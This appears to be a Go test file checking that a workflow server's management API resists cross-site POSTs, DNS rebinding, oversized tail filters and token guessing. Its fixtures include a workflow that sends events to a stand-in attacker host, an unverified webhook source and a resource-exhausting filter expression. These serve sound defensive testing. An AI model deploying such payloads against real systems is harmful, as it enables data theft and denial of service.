package server_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/switchyardhq/switchyard/internal/config"
)

// A web page open in a browser on the server's machine must not be able to
// change the configuration (a cross-site form POST) or read it (DNS
// rebinding) while the management API trusts loopback clients.
func TestBrowserAttacksOnManagementAPI(t *testing.T) {
	t.Parallel()
	s := newStack(t)
	workflow := `{"id":"exfil","trigger":{"source":"web"},"steps":[{"id":"s","action":"webhook.send","url":"https://attacker.example/x"}]}`
	source := `{"id":"open-door","kind":"webhook","verify":{"scheme":"none"}}`

	// Cross-site form posts: text/plain (what a <form enctype=text/plain>
	// sends), with the attacker's Origin or none at all.
	for _, h := range [][]string{
		{"Origin", "https://attacker.example"},
		{"Origin", "null"},
		{"Sec-Fetch-Site", "cross-site"},
		{},
	} {
		for path, body := range map[string]string{"/admin/v1/workflows": workflow, "/admin/v1/sources": source} {
			r := s.do(t, "POST", path, "text/plain", body, h...)
			if r.status != 403 && r.status != 400 {
				t.Fatalf("cross-site POST %s with %v: %d %s", path, h, r.status, r.body)
			}
		}
	}
	// A same-origin JSON request with the attacker's Origin is refused too.
	r := s.do(t, "POST", "/admin/v1/sources", "application/json", source, "Origin", "http://evil.example:8686")
	wantStatus(t, r, 403)
	wantStatus(t, s.do(t, "GET", "/admin/v1/workflows/exfil", "", ""), 404)
	wantStatus(t, s.do(t, "GET", "/admin/v1/sources/open-door", "", ""), 404)

	// DNS rebinding: the attacker's name resolves to 127.0.0.1, so its
	// page's requests carry its own Host. Refused, naming the setting.
	for _, path := range []string{"/admin/v1/sources", "/console/", "/console/sources", "/admin/v1/tail"} {
		r := s.doHost(t, "GET", path, "attacker.example:8686")
		wantStatus(t, r, 403)
		if !strings.Contains(string(r.body), "admin.allowed_hosts") {
			t.Fatalf("%s: refusal does not name admin.allowed_hosts: %s", path, r.body)
		}
	}
	// What is legitimate still works: localhost, an IP address, JSON from
	// a client that sends no Origin (curl, the CLI), the console's header.
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "localhost:8686"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "[::1]:8686"), 200)
	wantStatus(t, s.do(t, "POST", "/admin/v1/sources", "application/json", source), 201)
	wantStatus(t, s.do(t, "DELETE", "/admin/v1/sources/open-door", "", ""), 204)
	wantStatus(t, s.do(t, "POST", "/admin/v1/sources", "application/json", source, "Origin", s.url, "Sec-Fetch-Site", "same-origin"), 201)
	// Ingest routes are for every origin and host, as before.
	wantStatus(t, s.doHost(t, "GET", "/healthz", "attacker.example"), 200)

	// /metrics answers the Hosts the management API answers to.
	r = s.doHost(t, "GET", "/metrics", "attacker.example:8686")
	wantStatus(t, r, 403)
	wantStatus(t, s.doHost(t, "GET", "/metrics", "localhost:8686"), 200)

	// Reads from another site or origin are refused, console pages opened
	// from a link excepted.
	for _, h := range [][]string{
		{"Sec-Fetch-Site", "cross-site"},
		{"Sec-Fetch-Site", "same-site"}, // localhost:3000 is the same site as localhost:8686
		{"Origin", "https://attacker.example"},
		{"Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "no-cors"},
	} {
		for _, path := range []string{"/admin/v1/sources", "/admin/v1/events", "/admin/v1/tail", "/metrics", "/console/sources"} {
			if r := s.do(t, "GET", path, "", "", h...); r.status != 403 {
				t.Errorf("cross-site GET %s with %v: %d", path, h, r.status)
			}
		}
	}
	if r := s.do(t, "GET", "/console/sources", "", "", "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "navigate"); r.status != 200 {
		t.Errorf("a link to a console page: %d", r.status)
	}
	wantStatus(t, s.do(t, "GET", "/admin/v1/sources", "", "", "Sec-Fetch-Site", "same-origin", "Origin", s.url), 200)
}

// With tokens, a read that carries one is served whatever the browser
// says of its origin: only a page that holds the token can send it.
func TestCrossSiteReadWithToken(t *testing.T) {
	t.Parallel()
	s := newStack(t, func(c *config.Config) { c.Admin.Tokens = config.Tokens("s3cret") })
	wantStatus(t, s.do(t, "GET", "/admin/v1/sources", "", "", "Sec-Fetch-Site", "cross-site"), 403)
	wantStatus(t, s.do(t, "GET", "/admin/v1/sources", "", "", "Sec-Fetch-Site", "cross-site", "Authorization", "Bearer s3cret"), 200)
	wantStatus(t, s.do(t, "GET", "/metrics", "", "", "Authorization", "Bearer s3cret"), 200)
}

func TestAllowedHosts(t *testing.T) {
	t.Parallel()
	s := newStack(t, func(c *config.Config) { c.Admin.AllowedHosts = []string{"switchyard.example.com", "*.corp.example"} })
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "switchyard.example.com"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "SwitchYard.Example.com:443"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "cdp.corp.example"), 200)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "corp.example.attacker.example"), 403)
	wantStatus(t, s.doHost(t, "GET", "/admin/v1/sources", "example.com"), 403)
}

// doHost sends a request with the given Host header.
func (s *stack) doHost(t *testing.T, method, path, host string) reply {
	t.Helper()
	req, err := http.NewRequest(method, s.url+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	return s.send(t, req)
}

// A tail filter that would build hundreds of megabytes from one public
// event (lists.range(300).map(…).join(”) over a 900 KB string) is
// stopped at once: the next event reaches the tail within a second
// instead of after seconds of CPU and hundreds of megabytes.
func TestTailFilterBounded(t *testing.T) {
	s := newStack(t)
	filter := "lists.range(300).map(i, event.properties.s).join('').size() > 0 || event.type == 'marker'"
	lines := s.openTail(t, "source=web&filter="+url.QueryEscape(filter))
	big := strings.Repeat("x", 900<<10)
	wantStatus(t, s.track(t, `{"source":{"id":"web"},"session":{"id":"cel-bomb"},"events":[{"type":"bomb","properties":{"s":"`+big+`"}}]}`), 200)
	sent := time.Now()
	wantStatus(t, s.track(t, `{"source":{"id":"web"},"session":{"id":"cel-bomb"},"events":[{"type":"marker"}]}`), 200)
	got := nextEvents(t, lines, 1)
	if len(got) != 1 || got[0]["type"] != "marker" {
		t.Fatalf("tail delivered %v, want the marker", got)
	}
	if took := time.Since(sent); took > 2*time.Second {
		t.Fatalf("the marker took %v to reach the tail", took)
	}
}

// The console's sign-in is a session on the server: signing out ends it
// for every copy of the cookie, it lasts 12 hours, its cookie is Secure
// when the browser reached a trusted proxy over TLS (and only then), and
// sign-in attempts are limited per client address.
func TestConsoleSessions(t *testing.T) {
	s := newStack(t, func(c *config.Config) {
		c.Admin.Tokens = config.Tokens("s3cret")
		c.TrustedProxies = []string{"127.0.0.1"}
	})
	signIn := func(headers ...string) (string, http.Header) {
		t.Helper()
		code, h, body := s.page(t, "POST", "/console/signin", url.Values{"token": {"s3cret"}, "next": {"/console/"}}, headers...)
		if code != http.StatusSeeOther {
			t.Fatalf("sign-in: %d %.500s", code, body)
		}
		return strings.SplitN(h.Get("Set-Cookie"), ";", 2)[0], h
	}
	jar, h := signIn()
	cookie := h.Get("Set-Cookie")
	if !strings.Contains(cookie, "Max-Age=43200") || strings.Contains(cookie, "Secure") {
		t.Fatalf("cookie %q: want 12 hours, not Secure over plain HTTP", cookie)
	}
	other, _ := signIn()
	wantStatus(t, s.do(t, "GET", "/admin/v1/runs", "", "", "Cookie", jar), 200)
	code, _, _ := s.page(t, "POST", "/console/signout", url.Values{}, "Cookie", jar)
	if code != http.StatusSeeOther {
		t.Fatalf("sign-out: %d", code)
	}
	// The copy of the signed-out cookie is refused; the other session lives.
	wantStatus(t, s.do(t, "GET", "/admin/v1/runs", "", "", "Cookie", jar), 401)
	wantStatus(t, s.do(t, "GET", "/admin/v1/runs", "", "", "Cookie", other), 200)

	// Behind the trusted proxy (127.0.0.1 here) that says the browser used
	// TLS, the cookie is Secure; a client that is not a proxy saying so
	// is not believed (see TestForwarded).
	_, h = signIn("X-Forwarded-Proto", "https", "X-Forwarded-For", "198.51.100.7")
	if !strings.Contains(h.Get("Set-Cookie"), "Secure") {
		t.Fatalf("cookie %q behind a TLS proxy is not Secure", h.Get("Set-Cookie"))
	}

	// Guessing tokens: five attempts, then 429 for that address only.
	for i := range 6 {
		code, h, _ := s.page(t, "POST", "/console/signin", url.Values{"token": {"guess"}}, "X-Forwarded-For", "203.0.113.50")
		switch {
		case i < 5 && code != http.StatusUnauthorized:
			t.Fatalf("attempt %d: %d", i+1, code)
		case i == 5 && (code != http.StatusTooManyRequests || h.Get("Retry-After") == ""):
			t.Fatalf("attempt 6: %d, Retry-After %q", code, h.Get("Retry-After"))
		}
	}
	code, _, _ = s.page(t, "POST", "/console/signin", url.Values{"token": {"guess"}}, "X-Forwarded-For", "203.0.113.51")
	if code != http.StatusUnauthorized {
		t.Fatalf("another address was limited too: %d", code)
	}

	// With tokens, /metrics needs one as well.
	wantStatus(t, s.do(t, "GET", "/metrics", "", ""), 401)
	if r := s.do(t, "GET", "/metrics", "", "", "Authorization", "Bearer s3cret"); r.status != 200 {
		t.Fatalf("metrics with a token: %d", r.status)
	}
}
